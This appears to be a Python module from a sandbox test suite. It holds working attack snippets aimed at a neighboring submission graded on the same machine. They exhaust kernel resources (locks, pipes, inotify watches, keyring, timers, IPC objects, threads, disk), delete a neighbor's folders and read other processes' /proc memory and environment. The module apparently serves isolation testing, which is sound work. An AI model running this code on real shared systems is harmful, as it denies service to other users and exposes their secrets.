"""Attacks on the submission graded at the same time: take what processes share, and hold it as long as possible.

`shared.py` asks whether such a call is refused; these go on trying while a neighbor is graded.
"""

TITLE = "Take what a neighbor needs"
_HOLD = """
end = time.monotonic() + 0.3 * YARD["limit"]

def hold():
    while time.monotonic() < end:
        time.sleep(0.05)
    raise RuntimeError("done")
"""
_LIBRARIES = """
LIBRARIES = [os.path.join(os.path.dirname(os.__file__), name) for name in ("colorsys.py", "tempfile.py", "glob.py")]
opened = [file for path in LIBRARIES if (file := tried(open, path, "rb"))]
"""
SHARED = {"HOLD": _HOLD, "LIBRARIES": _HOLD + _LIBRARIES}
ATTACKS = r"""
holds leases: on libraries that a neighbor imports
- uses LIBRARIES
    while time.monotonic() < end:
        for file in opened:
            tried(fcntl.fcntl, file, fcntl.F_SETLEASE, fcntl.F_RDLCK)
            tried(fcntl.fcntl, file, fcntl.F_SETLEASE, fcntl.F_WRLCK)
        time.sleep(0.01)

holds every kind of lock: on libraries, whole and byte by byte
- uses LIBRARIES
    for file in opened:
        tried(fcntl.flock, file, fcntl.LOCK_EX | fcntl.LOCK_NB)
        tried(fcntl.lockf, file, fcntl.LOCK_SH | fcntl.LOCK_NB)
        tried(fcntl.fcntl, file, 37, bytes(32))  # F_OFD_SETLK
    hold()

holds full pipes: their pages count for the user
- uses HOLD
    held = []
    while pair := tried(os.pipe):
        os.set_blocking(pair[1], False)
        tried(fcntl.fcntl, pair[1], 1031, 1 << 20)  # F_SETPIPE_SZ
        tried(os.write, pair[1], bytes(1 << 20))
        held.append(pair)
    hold()

holds event descriptors: lets epoll descriptors watch them all
- uses HOLD
    import select
    events = [libc.eventfd(1, 0) for _ in range(50)]
    polls = [poll for _ in range(50) if (poll := tried(select.epoll))]
    for poll in polls:
        for event in events:
            tried(poll.register, event)
    hold()

holds file watches: a user has a fixed number
- uses LIBRARIES
    watcher = libc.inotify_init()
    for path in LIBRARIES * 10_000:
        if libc.inotify_add_watch(watcher, path.encode(), 4095) < 0:
            break
    hold()

fills the keyring: its size is limited for a user
- uses HOLD
    call = {'x86_64': 248, 'aarch64': 217}[os.uname().machine]
    for number in range(300):
        libc.syscall(call, b"user", b"k%d" % number, bytes(1000), 1000, -4)
    hold()

holds signals back: queues as many for itself as may wait
- uses HOLD
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGUSR1, signal.SIGRTMIN})
    for _ in range(40_000):
        if libc.sigqueue(os.getpid(), signal.SIGRTMIN, None) != 0:
            break
    hold()

holds timers: of every kind
- uses HOLD
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)
    made = ctypes.c_void_p()
    for clock in range(12):
        for _ in range(500):
            if libc.timer_create(clock, None, ctypes.byref(made)) != 0:
                break
    timers = [libc.timerfd_create(1, 0) for _ in range(60)]
    hold()

holds a thousand kernel objects: queues, semaphores and segments outlive it
- uses HOLD; dangerous: they would stay on the machine
    for number in range(1000):
        key = 0 if number else YARD["key"]
        made = [libc.msgget(key, 0o1666), libc.semget(key, 100, 0o1666), libc.shmget(key, 4096, 0o1666)]
        if max(made) < 0:
            break
    hold()

fills temporary folders: its own, and all that it can reach
- uses HOLD; level 0: file changed (files)
    for folder in (".", "/tmp", "/var/tmp", "/dev/shm", os.path.dirname(os.getcwd())):
        for number in range(40):
            file = tried(open, os.path.join(folder, f"{YARD['mark']}-{number}"), "wb")
            if file is None or tried(file.write, bytes(1 << 20)) is None:
                break
            tried(file.close)
    hold()

empties a neighbor's folder: looks for folders named like its own
- uses HOLD
    above, own = os.path.split(os.getcwd())
    while time.monotonic() < end:
        for name in tried(os.listdir, above) or ():
            if name != own and name.startswith(own[:6]) and "yard" not in name:
                tried(os.rmdir, os.path.join(above, name))
        time.sleep(0.05)

reads a neighbor's process: its memory, environment, open files and folder
- uses HOLD; level 0: secret read (processes); varies
    while time.monotonic() < end:
        for process in filter(str.isdigit, tried(os.listdir, "/proc") or ()):
            for what in ("environ", "mem", "maps", "stack", "fd/0", "cwd/advantages.py"):
                if int(process) not in (os.getpid(), 1) and tried(open, f"/proc/{process}/{what}", "rb"):
                    tell()
        time.sleep(0.1)

sits on a core: asks for more than its share and computes
- failed; uses HOLD
    tried(os.nice, -10)
    tried(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(10))
    tried(os.sched_setaffinity, 0, {max(os.sched_getaffinity(0))})
    while time.monotonic() < end:
        pass

empties a core's caches: walks through all the memory that it may have
- failed; uses HOLD
    filler = torch.zeros(1 << 22)
    while time.monotonic() < end:
        filler += 1.0

pushes libraries out of memory: asks the kernel to drop their pages, again and again
- uses HOLD
    size = os.path.getsize(torch._C.__file__)
    mapped = mmap.mmap(os.open(torch._C.__file__, os.O_RDONLY), size, mmap.MAP_SHARED, mmap.PROT_READ)
    while time.monotonic() < end:
        for advice in (4, 8, 20, 21):
            tried(mapped.madvise, advice)
        time.sleep(0.01)

holds all threads
- uses HOLD
    threading.stack_size(64 << 10)
    ----
    try:
        for _ in range(5000):
            threading.Thread(target=time.sleep, args=(20,), daemon=True).start()
    except RuntimeError:
        pass
    hold()
"""
